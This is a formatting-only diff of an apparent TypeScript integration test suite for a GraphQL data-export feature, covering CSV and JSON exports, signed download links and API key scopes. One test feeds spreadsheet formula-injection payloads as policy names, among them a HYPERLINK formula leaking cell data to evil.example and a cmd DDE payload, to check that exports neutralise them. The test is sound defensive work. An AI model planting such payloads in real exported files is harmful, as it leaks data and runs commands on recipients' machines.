@@ -16,8 +16,10 @@ afterAll(async () => {
   connection.disconnect();
 });
 
-const requestExport = 'mutation ($input: RequestExportInput!) { requestExport(input: $input) { id status downloadUrl error type format rowsWritten } }';
-const exportJob = 'query ($id: ID!) { exportJob(id: $id) { id status downloadUrl error rowsWritten bytes finishedAt organization { id } } }';
+const requestExport =
+  'mutation ($input: RequestExportInput!) { requestExport(input: $input) { id status downloadUrl error type format rowsWritten } }';
+const exportJob =
+  'query ($id: ID!) { exportJob(id: $id) { id status downloadUrl error rowsWritten bytes finishedAt organization { id } } }';
 
 /** A CSV parser for the test (RFC 4180: quoted fields, doubled quotes, CRLF). */
 function parseCsv(text: string): string[][] {
@@ -31,22 +33,19 @@ function parseCsv(text: string): string[][] {
       if (char === '"' && text[i + 1] === '"') {
         field += '"';
         i++;
-      }
-      else if (char === '"') quoted = false;
+      } else if (char === '"') quoted = false;
       else field += char;
     } else if (char === '"') quoted = true;
     else if (char === ',') {
       row.push(field);
       field = '';
-    }
-    else if (char === '\r' && text[i + 1] === '\n') {
+    } else if (char === '\r' && text[i + 1] === '\n') {
       row.push(field);
       rows.push(row);
       row = [];
       field = '';
       i++;
-    }
-    else field += char;
+    } else field += char;
   }
   if (field || row.length) rows.push([...row, field]);
   return rows;
@@ -90,9 +89,20 @@ describe('exports', () => {
     const from = new Date(start.getTime() + 1_000).toISOString();
     const to = new Date(start.getTime() + 100_001_000).toISOString();
 
-    const requested = await gql(requestExport, { input: { organizationId: tenant.organizationId, type: 'USAGE', format: 'CSV', from, to } }, { token: tenant.user.accessToken });
+    const requested = await gql(
+      requestExport,
+      { input: { organizationId: tenant.organizationId, type: 'USAGE', format: 'CSV', from, to } },
+      { token: tenant.user.accessToken },
+    );
     expect(requested.errors).toBeUndefined();
-    expect(requested.data!.requestExport).toMatchObject({ status: 'QUEUED', downloadUrl: null, error: null, type: 'USAGE', format: 'CSV', rowsWritten: 0 });
+    expect(requested.data!.requestExport).toMatchObject({
+      status: 'QUEUED',
+      downloadUrl: null,
+      error: null,
+      type: 'USAGE',
+      format: 'CSV',
+      rowsWritten: 0,
+    });
     const id = requested.data!.requestExport.id as string;
 
     const job = await finished(id, tenant.user.accessToken);
@@ -108,7 +118,20 @@ describe('exports', () => {
     const text = await response.text();
     expect(Buffer.byteLength(text)).toBe(job['bytes']);
     const [header, ...rows] = parseCsv(text);
-    expect(header).toEqual(['id', 'projectId', 'apiKeyId', 'model', 'inputTokens', 'outputTokens', 'latencyMs', 'costUsd', 'unpricedModel', 'occurredAt', 'recordedAt', 'metadata']);
+    expect(header).toEqual([
+      'id',
+      'projectId',
+      'apiKeyId',
+      'model',
+      'inputTokens',
+      'outputTokens',
+      'latencyMs',
+      'costUsd',
+      'unpricedModel',
+      'occurredAt',
+      'recordedAt',
+      'metadata',
+    ]);
     expect(rows).toHaveLength(100_000);
 
     const expected = await sql<{ id: string }>(
@@ -117,7 +140,20 @@ describe('exports', () => {
     );
     expect(rows.map((row) => row[0])).toEqual(expected.map((row) => row.id));
     const odd = rows.find((row) => row[4] === '1000')!;
-    expect(odd).toEqual([expect.any(String), tenant.projectId, tenant.apiKeyId, 'odd,"model"', '1000', String(1000 % 700), String(1000 % 300), '0', 'true', '2026-01-01T00:16:40.000Z', expect.stringMatching(/Z$/), expect.any(String)]);
+    expect(odd).toEqual([
+      expect.any(String),
+      tenant.projectId,
+      tenant.apiKeyId,
+      'odd,"model"',
+      '1000',
+      String(1000 % 700),
+      String(1000 % 300),
+      '0',
+      'true',
+      '2026-01-01T00:16:40.000Z',
+      expect.stringMatching(/Z$/),
+      expect.any(String),
+    ]);
     expect(JSON.parse(odd[11]!)).toEqual({ route: 'chat, completions', n: 1000 });
 
     // The requester is told.
@@ -126,13 +162,30 @@ describe('exports', () => {
 
   it('writes cells a spreadsheet would run as formulas as text (a policy named =HYPERLINK(...) in an AUDIT export)', async () => {
     const tenant = await createTenant();
-    const names = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '+1+1', '-2+3', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", 'plain, with a comma'];
+    const names = [
+      '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      "=cmd|' /C calc'!A0",
+      'plain, with a comma',
+    ];
     for (const name of names) {
-      const created = await gql('mutation ($input: CreatePolicyInput!) { createPolicy(input: $input) { id } }', { input: { organizationId: tenant.organizationId, name, type: 'MODEL_DENYLIST', rules: { models: ['x'] } } }, { token: tenant.user.accessToken });
+      const created = await gql(
+        'mutation ($input: CreatePolicyInput!) { createPolicy(input: $input) { id } }',
+        { input: { organizationId: tenant.organizationId, name, type: 'MODEL_DENYLIST', rules: { models: ['x'] } } },
+        { token: tenant.user.accessToken },
+      );
       expect(created.errors).toBeUndefined();
     }
     const now = Date.now();
-    const input = { organizationId: tenant.organizationId, type: 'AUDIT', format: 'CSV', from: new Date(now - 3_600_000).toISOString(), to: new Date(now + 3_600_000).toISOString() };
+    const input = {
+      organizationId: tenant.organizationId,
+      type: 'AUDIT',
+      format: 'CSV',
+      from: new Date(now - 3_600_000).toISOString(),
+      to: new Date(now + 3_600_000).toISOString(),
+    };
     // The audit entries are written by governance with the change: they are there once the mutations answered.
     const id = (await gql(requestExport, { input }, { token: tenant.user.accessToken })).data!.requestExport.id as string;
     const job = await finished(id, tenant.user.accessToken);
@@ -140,7 +193,16 @@ describe('exports', () => {
     const text = await (await fetch(job['downloadUrl'])).text();
     const [header, ...rows] = parseCsv(text);
     const column = header!.indexOf('policyName');
-    expect(rows.map((row) => row[column]).sort()).toEqual(["'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'=cmd|' /C calc'!A0", 'plain, with a comma'].sort());
+    expect(rows.map((row) => row[column]).sort()).toEqual(
+      [
+        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "'=cmd|' /C calc'!A0",
+        'plain, with a comma',
+      ].sort(),
+    );
     // No cell of the file starts a formula: every field is checked, not only the names.
     for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
   });
@@ -149,7 +211,19 @@ describe('exports', () => {
     const tenant = await createTenant();
     const start = new Date(Date.UTC(2026, 1, 1));
     await seedUsage(tenant, 3, start);
-    const requested = await gql(requestExport, { input: { organizationId: tenant.organizationId, type: 'USAGE', format: 'JSON', from: start.toISOString(), to: new Date(start.getTime() + 3_600_000).toISOString() } }, { token: tenant.user.accessToken });
+    const requested = await gql(
+      requestExport,
+      {
+        input: {
+          organizationId: tenant.organizationId,
+          type: 'USAGE',
+          format: 'JSON',
+          from: start.toISOString(),
+          to: new Date(start.getTime() + 3_600_000).toISOString(),
+        },
+      },
+      { token: tenant.user.accessToken },
+    );
     const id = requested.data!.requestExport.id as string;
     const job = await finished(id, tenant.user.accessToken);
     const good = new URL(job['downloadUrl']);
@@ -158,7 +232,15 @@ describe('exports', () => {
     expect(ok.headers.get('content-type')).toBe('application/json; charset=utf-8');
     const rows = (await ok.json()) as Record<string, unknown>[];
     expect(rows).toHaveLength(3);
-    expect(rows[0]).toMatchObject({ projectId: tenant.projectId, model: 'gpt-4o-mini', inputTokens: 1, outputTokens: 1, unpricedModel: false, occurredAt: '2026-02-01T00:00:01.000Z', metadata: null });
+    expect(rows[0]).toMatchObject({
+      projectId: tenant.projectId,
+      model: 'gpt-4o-mini',
+      inputTokens: 1,
+      outputTokens: 1,
+      unpricedModel: false,
+      occurredAt: '2026-02-01T00:00:01.000Z',
+      metadata: null,
+    });
 
     const tampered = new URL(good);
     const signature = tampered.searchParams.get('signature')!;
@@ -186,7 +268,13 @@ describe('exports', () => {
     const tenant = await createTenant(['usage:read', 'policies:read', 'exports:write']);
     const readOnly = await createTenant(['usage:read']);
     const stranger = await createTenant();
-    const input = { organizationId: tenant.organizationId, type: 'AUDIT', format: 'JSON', from: '2026-01-01T00:00:00Z', to: '2026-02-01T00:00:00Z' };
+    const input = {
+      organizationId: tenant.organizationId,
+      type: 'AUDIT',
+      format: 'JSON',
+      from: '2026-01-01T00:00:00Z',
+      to: '2026-02-01T00:00:00Z',
+    };
 
     const viaKey = await gql(requestExport, { input }, { token: tenant.apiKey });
     expect(viaKey.errors).toBeUndefined();
@@ -195,19 +283,36 @@ describe('exports', () => {
     // A new organization has no audit entries (or no audit log table yet): an empty array.
     expect(await (await fetch(job['downloadUrl'])).json()).toEqual([]);
 
-    expect((await gql(requestExport, { input: { ...input, organizationId: readOnly.organizationId } }, { token: readOnly.apiKey })).errors?.[0]?.extensions.code).toBe('FORBIDDEN');
+    expect(
+      (await gql(requestExport, { input: { ...input, organizationId: readOnly.organizationId } }, { token: readOnly.apiKey })).errors?.[0]
+        ?.extensions.code,
+    ).toBe('FORBIDDEN');
     // exports:write alone reads nothing that the key could not read through GraphQL.
     const keyWith = async (scopes: string[]) =>
-      (await gql<{ createApiKey: { key: string } }>('mutation ($input: CreateApiKeyInput!) { createApiKey(input: $input) { key } }', { input: { projectId: tenant.projectId, name: scopes.join(' '), scopes } }, { token: tenant.user.accessToken })).data!.createApiKey.key;
+      (
+        await gql<{ createApiKey: { key: string } }>(
+          'mutation ($input: CreateApiKeyInput!) { createApiKey(input: $input) { key } }',
+          { input: { projectId: tenant.projectId, name: scopes.join(' '), scopes } },
+          { token: tenant.user.accessToken },
+        )
+      ).data!.createApiKey.key;
     const usageOnly = await keyWith(['exports:write', 'usage:read']);
-    expect((await gql(requestExport, { input }, { token: usageOnly })).errors?.[0]).toMatchObject({ message: 'This API key lacks the policies:read scope', extensions: { code: 'FORBIDDEN' } });
+    expect((await gql(requestExport, { input }, { token: usageOnly })).errors?.[0]).toMatchObject({
+      message: 'This API key lacks the policies:read scope',
+      extensions: { code: 'FORBIDDEN' },
+    });
     expect((await gql(requestExport, { input: { ...input, type: 'USAGE' } }, { token: usageOnly })).errors).toBeUndefined();
     const exportsOnly = await keyWith(['exports:write']);
-    expect((await gql(requestExport, { input: { ...input, type: 'USAGE' } }, { token: exportsOnly })).errors?.[0]).toMatchObject({ message: 'This API key lacks the usage:read scope', extensions: { code: 'FORBIDDEN' } });
+    expect((await gql(requestExport, { input: { ...input, type: 'USAGE' } }, { token: exportsOnly })).errors?.[0]).toMatchObject({
+      message: 'This API key lacks the usage:read scope',
+      extensions: { code: 'FORBIDDEN' },
+    });
     // Nor the status and download link of an export it could not have requested.
     expect((await gql(exportJob, { id: viaKey.data!.requestExport.id }, { token: usageOnly })).data).toEqual({ exportJob: null });
     expect((await gql(requestExport, { input }, { token: stranger.user.accessToken })).errors?.[0]?.extensions.code).toBe('NOT_FOUND');
-    expect((await gql(exportJob, { id: viaKey.data!.requestExport.id }, { token: stranger.user.accessToken })).data).toEqual({ exportJob: null });
+    expect((await gql(exportJob, { id: viaKey.data!.requestExport.id }, { token: stranger.user.accessToken })).data).toEqual({
+      exportJob: null,
+    });
     expect((await gql(exportJob, { id: randomUUID() }, { token: tenant.user.accessToken })).data).toEqual({ exportJob: null });
 
     const backwards = await gql(requestExport, { input: { ...input, from: input.to, to: input.from } }, { token: tenant.user.accessToken });
@@ -218,7 +323,13 @@ describe('exports', () => {
     const tenant = await createTenant();
     const start = new Date(Date.UTC(2026, 2, 1));
     await seedUsage(tenant, 2, start);
-    const input = { organizationId: tenant.organizationId, type: 'USAGE', format: 'CSV', from: start.toISOString(), to: new Date(start.getTime() + 3_600_000).toISOString() };
+    const input = {
+      organizationId: tenant.organizationId,
+      type: 'USAGE',
+      format: 'CSV',
+      from: start.toISOString(),
+      to: new Date(start.getTime() + 3_600_000).toISOString(),
+    };
     const id = (await gql(requestExport, { input }, { token: tenant.user.accessToken })).data!.requestExport.id as string;
     const job = await finished(id, tenant.user.accessToken);
     expect((await fetch(job['downloadUrl'])).status).toBe(200);
@@ -252,7 +363,10 @@ describe('exports', () => {
     await utimes(abandoned, twoDaysAgo, twoDaysAgo);
 
     const cleanup = await producers.add('analytics', 'exports-cleanup', {});
-    await vi.waitFor(async () => expect(await producers.queues.analytics.getJobState(cleanup.id!)).toBe('completed'), { timeout: 15_000, interval: 100 });
+    await vi.waitFor(async () => expect(await producers.queues.analytics.getJobState(cleanup.id!)).toBe('completed'), {
+      timeout: 15_000,
+      interval: 100,
+    });
     // (The stack's own hourly run may have taken the abandoned file first: what is left is checked below.)
     expect((await producers.queues.analytics.getJob(cleanup.id!))!.returnvalue).toMatchObject({ kept: [stuck] });
 
